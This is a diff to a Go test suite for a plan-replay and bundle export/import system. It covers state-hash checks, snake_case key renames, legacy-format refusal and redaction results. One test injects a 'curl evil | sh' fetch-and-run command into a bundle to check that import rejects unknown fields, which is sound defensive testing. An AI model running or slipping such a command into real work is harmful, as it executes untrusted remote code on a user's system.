@@ -209,6 +209,12 @@ func TestCrystallize(t *testing.T) {
 // replayInto replays plan into dir the way the controller does, performing
 // each step's effect with do, and returns the report.
 func replayInto(t *testing.T, pl *Plan, dir string, do func(i int, dir string), outcome func(i int) Outcome) *ReplayReport {
+	return replayIntoBetween(t, pl, dir, do, outcome, nil)
+}
+
+// replayIntoBetween is replayInto with a hook run between edges (before step i's state
+// before is taken): an out-of-band change there is a state-hash mismatch before step i.
+func replayIntoBetween(t *testing.T, pl *Plan, dir string, do func(i int, dir string), outcome func(i int) Outcome, between func(i int, dir string)) *ReplayReport {
 	t.Helper()
 	r := &ReplayReport{ReplayID: NewID(), SkillID: pl.Manifest.SkillID, SkillVersion: 1, Backend: pl.Backend, Mode: pl.Mode, Edges: []ReplayEdge{}}
 	cur := hashDir(t, dir)
@@ -216,6 +222,10 @@ func replayInto(t *testing.T, pl *Plan, dir string, do func(i int, dir string), 
 		if den := pl.CheckCapabilities(i); den != nil {
 			r.Denials = append(r.Denials, *den)
 			break
+		}
+		if between != nil {
+			between(i, dir)
+			cur = hashDir(t, dir)
 		}
 		before := cur
 		do(i, dir)
@@ -326,7 +336,7 @@ func TestOutOfBandChangeHaltsAtTheRightEdge(t *testing.T) {
 		}
 	}
 	r := replayInto(t, pl, dir, do, nil)
-	if r.Status != StatusHalted || r.HaltedAtEdge != 1 || r.StatusString() != "halted-at-edge-1" || r.Fidelity != FidelityFailed {
+	if r.Status != StatusHalted || r.HaltedAtEdge != 1 || r.StatusString() != "halted_at_edge_1" || r.Fidelity != FidelityFailed {
 		t.Fatalf("report %s %+v", r.StatusString(), r)
 	}
 	s := r.Surprises[0]
@@ -350,7 +360,7 @@ func TestOutOfBandChangeHaltsAtTheRightEdge(t *testing.T) {
 	dir3 := freshCopy(t)
 	writeFile(t, dir3, "extra.txt", "x")
 	r3 := replayInto(t, pls, dir3, faithful(pls), nil)
-	if r3.Status != StatusCompletedWithSurprises || r3.Fidelity != FidelityStructural || r3.EdgesCommitted != 3 || r3.StatusString() != "completed-with-surprises" {
+	if r3.Status != StatusCompletedWithSurprises || r3.Fidelity != FidelityStructural || r3.EdgesCommitted != 3 || r3.StatusString() != "completed_with_surprises" {
 		t.Fatalf("structural: %s %+v", r3.StatusString(), r3)
 	}
 
@@ -486,11 +496,11 @@ func TestBundleHashReproducibleAndImportVerifies(t *testing.T) {
 	m := crystallize(t, d)
 	pl, _ := NewPlan(m, nil, "host-local", ModeExact)
 	r := replayInto(t, pl, freshCopy(t), faithful(pl), nil)
-	b, err := Export(exportInput(d, m, r), ExportOptions{})
+	b, err := Export(exportInput(d, m, r), ExportOptions{Profile: RedactionNone})
 	if err != nil {
 		t.Fatal(err)
 	}
-	if b.RedactionProfile != RedactionNone || b.Proof.OverallVerdict != VerdictPass || b.Signature != nil || b.Signed {
+	if b.RedactionProfile != RedactionNone || b.Proof.Redaction.Selection != SelectionExplicit || b.Proof.OverallVerdict != VerdictPass || b.Signature != nil || b.Signed {
 		t.Fatalf("bundle %s %s", b.RedactionProfile, b.Proof.OverallVerdict)
 	}
 	// Two independent serializations: typed and generic, compact and indented.
@@ -534,13 +544,20 @@ func TestBundleHashReproducibleAndImportVerifies(t *testing.T) {
 	if err := json.Unmarshal(indented, &doc); err != nil {
 		t.Fatal(err)
 	}
-	delete(doc, "contentHash")
+	delete(doc, "content_hash")
 	noHash, _ := json.Marshal(doc)
-	if _, err := Import(noHash); CodeOf(err) != actuation.CodeBundleSchemaInvalid {
+	if _, err := Import(noHash); CodeOf(err) != actuation.CodeBundleHashMissing {
 		t.Fatalf("missing hash: %v", err)
 	}
-	// Unknown members are refused: bundles are data of a known shape.
+	// A camelCase bundle of an earlier version is refused with its own code.
 	doc["contentHash"] = b.ContentHash
+	legacy, _ := json.Marshal(doc)
+	if _, err := Import(legacy); CodeOf(err) != actuation.CodeBundleFormatLegacy {
+		t.Fatalf("legacy: %v", err)
+	}
+	delete(doc, "contentHash")
+	// Unknown members are refused: bundles are data of a known shape.
+	doc["content_hash"] = b.ContentHash
 	doc["script"] = "curl evil | sh"
 	extra, _ := json.Marshal(doc)
 	if _, err := Import(extra); CodeOf(err) != actuation.CodeBundleSchemaInvalid {
@@ -586,7 +603,7 @@ func TestRedactedExport(t *testing.T) {
 	if g := b.Proof.Gate(GateRedactionVerify); g.Verdict != VerdictPass {
 		t.Fatalf("redaction gate %+v", g)
 	}
-	if !slices.Contains(b.Proof.Redaction.FieldsStripped, "interactionTrace.edges[*].command.output") || !slices.Equal(b.Proof.Redaction.SecretsFoundBefore, []string{"aws-access-key-id"}) {
+	if !slices.Contains(b.Proof.Redaction.FieldsStripped, "interaction_trace.edges[*].command.output") || !slices.Equal(b.Proof.Redaction.SecretsFoundBefore, []string{"aws-access-key-id"}) {
 		t.Fatalf("redaction result %+v", b.Proof.Redaction)
 	}
 	if _, err := Import(raw); err != nil {
